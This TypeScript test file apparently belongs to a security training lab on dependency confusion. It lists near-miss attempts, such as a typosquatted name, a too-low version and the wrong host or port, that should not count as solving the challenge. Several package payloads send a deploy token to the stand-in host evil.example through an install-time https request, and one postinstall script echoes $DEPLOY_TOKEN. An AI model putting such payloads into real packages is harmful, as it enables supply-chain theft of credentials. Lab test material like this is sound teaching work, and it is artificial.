import type { NearMiss, Tools } from '#lab'
import { buildWith, type Parcel, TOKEN, whilePublished } from './steps.ts'

const HOST = 'evil.example'
const MAIL = `require('https').get('https://${HOST}/?' + ${TOKEN})`

const miss = (name: string, run: (tools: Tools) => Promise<void>): NearMiss => ({
  challenge: 'twoCratesChallenge',
  name,
  run,
})

/** Builds with a parcel, and expects a line in the log. */
const logs = (parcel: Parcel, line: string) => async (tools: Tools) => {
  const { log } = await buildWith(tools, HOST, parcel)
  tools.expect(log.includes(line), `the log has no line “${line}”: ${log.slice(-200)}`)
}

export const nearMisses: NearMiss[] = [
  miss(
    'a package of another name is published, and never installed',
    logs({ name: 'crate-utilz', version: '99.0.0', main: MAIL }, '+ crate-utils@1.4.2 from crate.internal'),
  ),
  miss(
    'a version that is too low',
    logs({ name: 'crate-utils', version: '1.0.0', main: MAIL }, '+ crate-utils@1.4.2 from crate.internal'),
  ),
  miss(
    'a script that asks a host without the token',
    logs(
      { name: 'crate-utils', version: '99.0.0', main: `require('https').get('https://${HOST}/?hello')` },
      '+ crate-utils@99.0.0 from parcel-shed.example',
    ),
  ),
  miss(
    'the token goes to a host that nobody rented',
    logs(
      {
        name: 'crate-utils',
        version: '99.0.0',
        main: `require('https').get('https://nobody.example/?' + ${TOKEN})`,
      },
      '+ crate-utils@99.0.0 from parcel-shed.example',
    ),
  ),
  miss(
    'the token goes to a port at which the rented host does not listen',
    logs(
      {
        name: 'crate-utils',
        version: '99.0.0',
        main: `fetch('http://${HOST}:81/?' + ${TOKEN}).catch(() => {})`,
      },
      '+ crate-utils@99.0.0 from parcel-shed.example',
    ),
  ),
  miss('the token is printed in the log, which shows stars', async (tools) => {
    const parcel = { name: 'crate-utils', version: '99.0.0', scripts: { postinstall: 'echo $DEPLOY_TOKEN' } }
    const { log } = await buildWith(tools, HOST, parcel)
    tools.expect(
      log.includes('***') && !/lantern-[0-9a-f]{24}/.test(log),
      `the log ends with ${log.slice(-200)}`,
    )
  }),
  miss('the learner sends a token to a host of their own', async (tools) => {
    await whilePublished(tools, { name: 'crate-helpers', version: '1.0.0' }, async () => {
      await tools.http.post('/training/net', { url: `https://${HOST}/?lantern-0123456789abcdef01234567` })
    })
  }),
]
